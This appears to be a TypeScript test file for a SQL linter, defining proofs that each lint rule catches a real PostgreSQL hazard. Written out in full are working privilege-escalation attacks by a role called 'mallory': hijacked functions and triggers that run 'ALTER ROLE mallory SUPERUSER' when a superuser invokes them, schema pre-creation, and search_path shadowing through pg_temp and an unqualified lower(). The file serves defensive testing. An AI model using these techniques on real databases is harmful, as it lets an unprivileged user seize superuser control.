import type { SqlProof } from '../sql-proofs.ts';

const isSuperuser = "SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'mallory'";
const asMallory = (text: string): string => `SET SESSION AUTHORIZATION mallory; ${text} RESET SESSION AUTHORIZATION;`;
const evil = "EXECUTE 'ALTER ROLE mallory SUPERUSER';";

/** Somebody else has made the function, keeps it when it is replaced, and changes it. */
function replaced(rule: string, before: string, prefix = ''): SqlProof {
  return {
    rule,
    before: `${before} ${asMallory('CREATE FUNCTION public.maint() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 0; END $$;')}`,
    file: `${prefix}CREATE OR REPLACE FUNCTION public.maint() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$;`,
    attack: {
      as: 'postgres', gets: true, stopped: false,
      run: [asMallory(`CREATE OR REPLACE FUNCTION public.maint() RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${evil} RETURN 1; END $$;`), 'SELECT public.maint()', isSuperuser],
    },
    honest: { as: 'postgres', run: ['SELECT public.maint()'], gets: 1 },
    refused: /already exists/,
  };
}

/** Somebody else has made the table, and puts a trigger on it. */
function kept(rule: string, before: string, prefix = ''): SqlProof {
  return {
    rule,
    before: `${before} ${asMallory('CREATE TABLE public.jobs (cmd text);')}`,
    file: `${prefix}CREATE TABLE IF NOT EXISTS public.jobs (cmd text);`,
    attack: {
      as: 'postgres', gets: true, stopped: false,
      run: [
        asMallory(`CREATE FUNCTION public.run() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN ${evil} RETURN NEW; END $$; CREATE TRIGGER t BEFORE INSERT ON public.jobs FOR EACH ROW EXECUTE FUNCTION public.run();`),
        "INSERT INTO public.jobs VALUES ('job')", isSuperuser,
      ],
    },
    honest: { as: 'postgres', run: ['SELECT count(*)::int FROM public.jobs'], gets: 0 },
    refused: /already exists/,
  };
}

const open = 'GRANT CREATE ON SCHEMA public TO PUBLIC;';

export const extension: readonly SqlProof[] = [
  replaced('sql/create-or-replace-in-shared-schema', open, `${open}\n`),
  kept('sql/create-if-not-exists-in-shared-schema', open, `${open}\n`),
  replaced('sql/extension-or-replace', open),
  kept('sql/extension-if-not-exists', open),
  {
    rule: 'sql/create-schema-if-not-exists',
    before: `GRANT CREATE ON DATABASE lab TO mallory; ${asMallory('CREATE SCHEMA jobs;')}`,
    file: 'CREATE SCHEMA IF NOT EXISTS jobs;\nCREATE TABLE jobs.queue (cmd text);',
    attack: {
      as: 'postgres', gets: 'of mallory', stopped: null,
      run: [asMallory("DROP TABLE jobs.queue; CREATE TABLE jobs.queue AS SELECT 'of mallory'::text AS cmd;"), 'SELECT cmd FROM jobs.queue'],
    },
    honest: { as: 'postgres', run: ['SELECT count(*)::int FROM jobs.queue'], gets: 0 },
    refused: /already exists/,
  },
  {
    rule: 'sql/search-path-misquoted',
    before: "CREATE SCHEMA app; CREATE TABLE app.setting (value text); INSERT INTO app.setting VALUES ('real'); GRANT USAGE ON SCHEMA app TO PUBLIC; GRANT SELECT ON app.setting TO PUBLIC;",
    file: "ALTER ROLE alice SET search_path = 'app, pg_temp';",
    attack: {
      as: 'alice', gets: 'forged', stopped: 'real',
      run: ["CREATE TEMP TABLE setting (value text); INSERT INTO pg_temp.setting VALUES ('forged')", 'SELECT value FROM setting'],
    },
    honest: { as: 'alice', run: ['SELECT value FROM app.setting'], gets: 'real' },
  },
  {
    rule: 'sql/extension-unqualified-name',
    before: `CREATE SCHEMA ext; GRANT ALL ON SCHEMA ext TO mallory; CREATE TABLE ext.t (v varchar); INSERT INTO ext.t VALUES ('A');
      ${asMallory(`CREATE FUNCTION ext.lower(varchar) RETURNS text LANGUAGE plpgsql AS
        $$ BEGIN EXECUTE 'ALTER ROLE mallory SUPERUSER'; RETURN $1; EXCEPTION WHEN insufficient_privilege THEN RETURN $1; END $$;`)}
      SET search_path = ext, public;`,
    file: 'SELECT lower(v) FROM ext.t;',
    attack: { as: 'postgres', run: [isSuperuser], gets: true, stopped: false },
    honest: { as: 'postgres', run: ['SELECT count(*)::int FROM ext.t'], gets: 1 },
  },
];
